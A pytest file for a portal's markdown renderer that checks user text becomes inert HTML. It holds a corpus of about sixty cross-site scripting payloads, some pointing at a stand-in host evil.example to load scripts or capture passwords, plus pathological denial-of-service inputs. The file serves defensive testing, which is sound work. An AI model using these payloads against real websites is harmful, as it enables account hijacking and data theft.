"""What people write becomes HTML that can do nothing: held against a corpus of attacks, in every voice."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from portal.core import markdown

ALLOWED = {
    "p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "table", "thead", "tbody", "tr", "th", "td", "sup", "sub", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "rel", "start", "tabindex", "scope", "class", "id"}
VOICES = [markdown.render, markdown.render_post, markdown.render_inline]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml;base64,PHN2Zy8+)",
    "[a](file:///etc/passwd)",
    "[a](intent://x#Intent;scheme=javascript;end)",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)> 'x'\n\n[a][]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[a](https://example.org "x\\" onmouseover=\\"alert(1)")',
    "[a](https://example.org '\"><img src=x onerror=alert(1)>')",
    '[a](https://example.org/"onclick=alert(1)//)',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![x" onerror="alert(1)](https://evil.example/x)',
    "[a](https://example.org){onclick=alert(1)}",
    "[a](https://example.org){style=position:fixed target=_blank}",
    "{onclick=alert(1) style=position:fixed}\nparagraph",
    "# heading {onclick=alert(1)}",
    "# heading {#a onclick=alert(1)}",
    "{#x onmouseover=alert(1)}\n## heading",
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```x" onmouseover="alert(1)\ncode\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='https://example.org' ping=//evil.example>x</a>",
    "*<b*onclick=alert(1)>x",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '[a](https://example.org "&quot; onfocus=alert(1) autofocus x=&quot;")',
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x>",
]


class Opened(HTMLParser):
    """Every tag that a browser would open, with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.tags.append(("comment", {}))

    def handle_decl(self, decl):
        self.tags.append(("declaration", {}))


def scheme(address: str) -> str:
    """The scheme as a browser reads it: without the control characters and blanks that it skips."""
    return urlsplit("".join(char for char in address if ord(char) > 32)).scheme.lower()


@pytest.mark.parametrize("voice", VOICES, ids=lambda voice: voice.__name__)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_opens_more_than_plain_text(voice, attack):
    for tag, attributes in Opened(voice(attack)).tags:
        assert tag in ALLOWED
        assert set(attributes) <= ATTRIBUTES
        assert scheme(attributes.get("href") or "") in {"", "http", "https", "mailto", "tel"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_words_are_harmless_once_escaped_and_hold_no_markup_of_ours(attack):
    assert "<p>" not in markdown.plain_text(attack)


@pytest.mark.parametrize(
    "bomb",
    ["[a](" * 8000, ">" * 2000, "*" * 20_000, "- " * 5000, "[" * 20_000, "`" * 30_001, "<" * 20_000, "![" * 8000],
    ids=["links", "quotes", "stars", "lists", "brackets", "ticks", "angles", "images"],
)
@pytest.mark.parametrize("voice", [markdown.render, markdown.render_post], ids=lambda voice: voice.__name__)
def test_no_text_makes_the_renderer_wait(voice, bomb):
    started = time.process_time()
    voice(bomb)
    assert time.process_time() - started < 3


def test_a_post_longer_than_the_limit_is_cut_not_refused():
    html = markdown.render_post("mot " * markdown.MAX_LENGTH)
    assert len(html) < markdown.MAX_LENGTH + 100


def test_members_write_no_heading_no_picture_no_table():
    html = markdown.render_post("# Titre\n\nSous\n---\n\n![x](https://example.org/a.png)\n\n| a |\n|---|\n| b |")
    assert not {tag for tag, _ in Opened(html).tags} & {"h1", "h2", "img", "table"}


def test_links_of_members_pass_no_authority_on():
    assert 'rel="nofollow ugc noopener"' in markdown.render_post("[x](https://example.org)")


def test_line_breaks_of_members_are_kept():
    assert "<br" in markdown.render_post("une ligne\nune autre")


def test_headings_of_authors_start_under_the_title_of_the_page():
    assert markdown.render("# Un\n\n## Deux") == '<h2 id="un">Un</h2>\n<h2 id="deux">Deux</h2>\n'


@pytest.mark.parametrize(
    ("source", "ids"),
    [
        ("## Été à Évron", ["ete-a-evron"]),
        ("## Même\n\n## Même", ["meme", "meme-2"]),
        ("## !!!", ["section-2"]),
        ("## Données {#donnees-ici}", ["donnees-ici"]),
        ("## **Gras** et `code`", ["gras-et-code"]),
    ],
)
def test_every_heading_has_an_anchor_of_its_own(source, ids):
    assert [attributes["id"] for _tag, attributes in Opened(markdown.render(source)).tags if "id" in attributes] == ids


def test_the_name_given_to_a_heading_is_not_read_out():
    assert "{#" not in markdown.render("## Données {#ici}")


def test_cells_of_a_table_head_say_that_they_head_a_column():
    assert '<th scope="col">' in markdown.render("| a |\n|---|\n| b |")


def test_one_line_has_no_paragraph_around_it():
    assert markdown.render_inline("**Oui**, `rm`") == "<strong>Oui</strong>, <code>rm</code>"


def test_plain_words_keep_spaces_between_paragraphs_and_read_entities():
    assert markdown.plain_text("## Titre\n\nUn **mot** &amp; deux.\n\n- a\n- b") == "Titre Un mot & deux. a b"
